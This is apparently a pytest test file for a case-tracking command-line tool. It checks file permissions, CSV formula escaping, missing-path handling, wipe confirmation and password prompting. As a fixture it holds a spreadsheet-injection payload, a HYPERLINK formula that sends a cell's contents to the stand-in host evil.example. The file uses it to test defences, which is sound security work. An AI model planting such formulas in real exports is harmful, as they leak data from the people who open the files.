"""Nothing readable beside the database: every file the commands write is private, the
rejected-rows file is formula-safe, and a mistyped path creates nothing."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from evactrack.cli import main

RUN = (
    "import os, sys; os.umask(0o022); from evactrack.cli import main; sys.exit(main(sys.argv[1:]))"
)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def write_contact_list(path: Path) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Name", "Phone", "Notes"])
        writer.writerow(["Ahmad Rahimi", "+93701234567", "interpreter"])
        writer.writerow(["", "", FORMULA])  # no name, no phone: rejected
        writer.writerow(["", "", "-2+3"])  # rejected too


def test_every_file_the_commands_write_is_private(tmp_path: Path) -> None:
    """Fresh processes with a umask that lets everyone read (022): init, demo, import with
    --errors, export, report and backup; then every file the application wrote is 0600 and
    every folder it made 0700."""
    data = tmp_path / "fresh" / "evactrack"
    logs = data / "logs"
    out = tmp_path / "out"
    out.mkdir()
    contacts = tmp_path / "contacts.csv"
    write_contact_list(contacts)
    env = {**os.environ, "EVACTRACK_DATA_DIR": str(data), "XDG_CONFIG_HOME": str(tmp_path)}
    env.pop("EVACTRACK_DB", None)
    commands = [
        ["init"],
        ["demo", "--people", "30"],
        ["import", str(contacts), "--errors", str(out / "rejected.csv")],
        ["export", "csv", "-o", str(out / "cases.csv")],
        ["report", "daily", "-o", str(out / "daily.pdf")],
        ["backup", "-o", str(out / "copy.sqlite3")],
        ["backup", "-o", str(data / "backups.sqlite3")],
    ]
    for command in commands:
        done = subprocess.run(
            [sys.executable, "-c", RUN, *command],
            capture_output=True,
            text=True,
            env=env,
            timeout=300,
            check=False,
        )
        assert done.returncode == 0, (command, done.stderr)

    written = [
        *(out / name for name in ("rejected.csv", "cases.csv", "daily.pdf", "copy.sqlite3")),
        *(p for p in data.rglob("*") if p.is_file()),
    ]
    folders = [tmp_path / "fresh", *(p for p in data.rglob("*") if p.is_dir()), data]
    assert (data / "evactrack.sqlite3") in written and (logs / "evactrack.log") in written
    assert {p: oct(p.stat().st_mode & 0o777) for p in written} == {p: "0o600" for p in written}
    assert {p: oct(p.stat().st_mode & 0o777) for p in folders} == {p: "0o700" for p in folders}
    assert [p for p in out.iterdir() if p.name.startswith(".")] == []


def test_the_rejected_rows_file_is_formula_safe_and_can_be_imported_again(
    sqlite_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    contacts = tmp_path / "contacts.csv"
    write_contact_list(contacts)
    errors = tmp_path / "rejected.csv"
    code, _, err = run(capsys, "--db", sqlite_url, "import", str(contacts), "--errors", str(errors))
    assert code == 0, err
    with errors.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["Row", "Reason", "Name", "Phone", "Notes"]
    notes = [row[4] for row in rows[1:]]
    assert notes == ["'" + FORMULA, "'-2+3"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert errors.stat().st_mode & 0o777 == 0o600

    # Read back, the cells are what the caseworker typed: the apostrophe only protected them.
    from evactrack.importing.readers import Table

    assert [cells[4] for _row, cells in Table(errors).rows()] == [FORMULA, "-2+3"]


def test_a_mistyped_path_creates_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "typo" / "cases.sqlite3"
    for command in (["stats"], ["demo", "--people", "5"], ["backup", "-o", str(tmp_path / "b")]):
        code, out, err = run(capsys, "--db", str(missing), *command)
        assert code == 1 and out == ""
        assert err == (
            f"evactrack: error: no database at {missing}; create one with evactrack init\n"
        )
    assert list(tmp_path.iterdir()) == []

    code, out, err = run(capsys, "--db", str(missing), "init")
    assert code == 0, err
    assert missing.exists() and missing.parent.stat().st_mode & 0o777 == 0o700


def test_wipe_without_yes_refuses_and_touches_nothing(
    sqlite_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(capsys, "--db", sqlite_url, "wipe")
    assert code == 2 and out == ""
    assert "add --yes to confirm" in err and err.count("\n") == 1
    assert Path(sqlite_url.removeprefix("sqlite:///")).exists()


def test_a_server_password_is_asked_at_the_terminal(
    sqlite_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Never on the command line (every account can read it): typed, not echoed, once."""
    from evactrack import cli
    from evactrack.domain.errors import PasswordRequiredError
    from evactrack.services import context

    server = "postgresql://caseworker@10.0.0.5/cases"
    opened: list[str | None] = []
    real_open = context.open_database

    def open_database(url: str | None, **options: object):  # type: ignore[no-untyped-def]
        opened.append(url)
        if len(opened) == 1:
            raise PasswordRequiredError("cannot open database 10.0.0.5/cases: password")
        return real_open(sqlite_url)

    monkeypatch.setattr(context, "open_database", open_database)
    monkeypatch.setattr(cli.sys.stdin, "isatty", lambda: True)
    prompts: list[str] = []
    monkeypatch.setattr(cli.getpass, "getpass", lambda prompt: prompts.append(prompt) or "Kabul")
    code, out, err = run(capsys, "--db", server, "stats")
    assert code == 0, err
    assert prompts == ["password for postgresql+psycopg://caseworker@10.0.0.5/cases: "]
    assert opened == [server, "postgresql+psycopg://caseworker:Kabul@10.0.0.5/cases"]
    assert "Kabul" not in out + err

    monkeypatch.setattr(cli.sys.stdin, "isatty", lambda: False)  # a script: no prompt
    opened.clear()
    code, out, err = run(capsys, "--db", server, "stats")
    assert code == 1 and "password" in err and len(prompts) == 1
